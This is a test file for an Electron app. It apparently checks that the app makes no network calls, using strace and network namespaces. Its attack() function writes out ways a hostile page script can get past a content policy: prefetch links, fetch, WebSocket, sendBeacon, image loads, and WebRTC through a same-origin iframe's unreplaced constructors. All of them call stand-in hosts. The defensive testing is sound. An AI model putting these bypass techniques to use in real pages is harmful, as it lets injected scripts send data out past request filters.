import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sendingCounters } from './support/counters.ts';
import { answerDialogs, environment, launchApp } from './support/launch.ts';
import { kindOfCall, readNetworkCalls, tracingStarter } from './support/network-trace.ts';
import { runToEnd } from './support/processes.ts';
import { electronExecutable, repository, rootFlags } from './support/runtime.ts';
import { openFilledSample, SAMPLE_WORKSPACE } from './support/sample.ts';
import { scratchFolder } from './support/scratch.ts';

const scratch = scratchFolder('silence');
const profile = join(scratch, 'profile');

const can = (program: string, ...args: string[]): boolean => spawnSync(program, args, { stdio: 'ignore' }).status === 0;

/** Two independent witnesses: what the program asks of the kernel, and what the kernel was asked to send. */
const canTrace = process.platform === 'linux' && can('strace', '-o', '/dev/null', 'true');
const canIsolate = process.platform === 'linux' && can('unshare', '-n', 'true');

/** Long enough for what a browser does by itself some time after its start. */
const SETTLE_MS = 8000;

/** What a hostile script in the page would try: each is a known way around a content policy or a request filter. */
function attack(): void {
  const link = (rel: string, href: string): void =>
    document.head.append(Object.assign(document.createElement('link'), { rel, href }));
  link('dns-prefetch', 'https://prefetch.example');
  link('preconnect', 'https://preconnect.example');
  link('prefetch', 'https://prefetch.example/x');
  void fetch('https://fetch.example/').catch(() => {});
  void new WebSocket('wss://socket.example/');
  navigator.sendBeacon('https://beacon.example/', 'x');
  new Image().src = 'https://image.example/x.png';
  // A frame of the same origin has constructors that the page's own guard did not replace.
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inner = frame.contentWindow as (Window & typeof globalThis) | null;
  if (inner === null) return;
  const connection = new inner.RTCPeerConnection({
    iceServers: [
      {
        urls: ['stun:stun.example:3478', 'stun:192.0.2.1:3478', 'turn:192.0.2.1:3478'],
        username: 'u',
        credential: 'c',
      },
    ],
  });
  connection.createDataChannel('out');
  void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
}

describe('the program on the network', () => {
  it('has at least one witness on this machine', () => {
    const absent = [
      canTrace ? [] : ['strace (a Debian package)'],
      canIsolate ? [] : ['network namespaces (unshare -n, as root)'],
    ].flat();
    if (absent.length > 0) console.warn(`silence.test: not available here: ${absent.join(', ')}; the other is used`);
    expect(canTrace || canIsolate).toBe(true);
  });

  it.runIf(canTrace)(
    'makes no call to it in a session from start to deck, and sends nothing under attack',
    async () => {
      const { app, page } = await launchApp({
        profile,
        executable: tracingStarter(scratch, electronExecutable(), 'calls'),
      });
      try {
        await openFilledSample(page);
        await answerDialogs(app, { exportDeck: join(scratch, 'deck.pdf') });
        await page.evaluate(() => window.muster.shell.exportDeck({ briefing: 'board', filters: null }));
        await page.waitForTimeout(SETTLE_MS);
        const peace = readNetworkCalls(scratch, 'calls');
        expect(peace.processes).toBeGreaterThan(5);
        expect(peace).toMatchObject({ sending: [], probing: [] });
        expect((await page.evaluate(() => window.muster.shell.about())).blockedRequests).toBe(0);

        await page.evaluate(attack);
        await page.waitForTimeout(SETTLE_MS);
        expect(readNetworkCalls(scratch, 'calls').sending).toEqual([]);
        expect((await page.evaluate(() => window.muster.shell.about())).blockedRequests).toBeGreaterThan(3);
      } finally {
        await app.close();
      }
    },
  );

  it.runIf(canTrace)('would be caught by that trace: a program that calls out is', async () => {
    const control = tracingStarter(scratch, process.execPath, 'control');
    const callOut = `
      require('node:net').connect(9, '192.0.2.1').on('error', () => {});
      require('node:dgram').createSocket('udp4').send('x', 9, '192.0.2.1');
      setTimeout(() => process.exit(), 300);`;
    await runToEnd(control, ['-e', callOut], { env: environment() });
    const { sending } = readNetworkCalls(scratch, 'control');
    expect(sending.some((line) => line.startsWith('connect('))).toBe(true);
    expect(sending.some((line) => line.startsWith('send'))).toBe(true);
  });

  it.each([
    [
      'sending',
      'connect(20<TCP:[123]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("8.8.8.8")}, 16) = 0',
    ],
    ['sending', 'sendto(9<UDP:[123]>, "x", 1, 0, {sa_family=AF_INET, sin_addr=inet_addr("224.0.0.251")}, 16) = 1'],
    ['sending', 'sendto(9<UDP:[10.0.0.2:5->8.8.8.8:53]>, "x", 1, 0, NULL, 0) = 1'],
    [
      'probing',
      'connect(20<UDPv6:[9]>, {sa_family=AF_INET6, inet_pton(AF_INET6, "2001:4860:4860::8888", &a)}, 28) = 0',
    ],
    ['local', 'sendto(73<TCP:[127.0.0.1:38837->127.0.0.1:58586]>, "x", 1, MSG_NOSIGNAL, NULL, 0) = 1'],
    ['local', 'connect(7<TCP:[5]>, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("127.0.0.1")}, 16) = -1'],
    ['local', 'connect(7<UNIX-STREAM:[5]>, {sa_family=AF_UNIX, sun_path=@"/tmp/.X11-unix/X99"}, 110) = 0'],
    ['local', 'sendto(5<NETLINK:[ROUTE:7]>, [{nlmsg_len=20}], 20, 0, {sa_family=AF_NETLINK}, 12) = 20'],
  ])('reads as %s: %s', (kind, line) => {
    expect(kindOfCall(line)).toBe(kind);
  });

  it.runIf(canIsolate)(
    'sends nothing that the kernel would count, when it prints a deck in a network of its own',
    async () => {
      const order = {
        workspace: join(profile, SAMPLE_WORKSPACE),
        briefing: 'board',
        out: join(scratch, 'isolated.pdf'),
        filters: null,
      };
      await ensureSample();
      const before = await countersAround(':', {});
      const after = await countersAround(`'${electronExecutable()}' ${rootFlags.join(' ')} '${repository}'`, {
        MUSTER_BRIEF: JSON.stringify(order),
      });
      expect(after).toEqual(before);
    },
  );

  it.runIf(canIsolate)('would be caught by those counters: a program that calls out is', async () => {
    const callOut = `'${process.execPath}' -e "require('node:dgram').createSocket('udp4').send('x', 9, '192.0.2.1', () => process.exit())"`;
    expect(await countersAround(callOut, {})).not.toEqual(await countersAround(':', {}));
  });
});

/** Where strace is missing, no session has filled the sample yet. */
async function ensureSample(): Promise<void> {
  if (canTrace) return;
  const { app, page } = await launchApp({ profile });
  await openFilledSample(page);
  await app.close();
}

/** Runs a command in a network namespace of its own, with nothing but loopback, and reads what was asked of it. */
async function countersAround(command: string, extra: Record<string, string>): Promise<Record<string, number>> {
  const script = `ip link set lo up 2>/dev/null; ${command} >/dev/null; status=$?; cat /proc/net/snmp; exit $status`;
  const { code, stdout, stderr } = await runToEnd('unshare', ['-n', 'sh', '-c', script], {
    env: { ...environment(), ...extra },
  });
  if (code !== 0) throw new Error(`The isolated program ended with ${code}:\n${stderr}`);
  return sendingCounters(stdout);
}
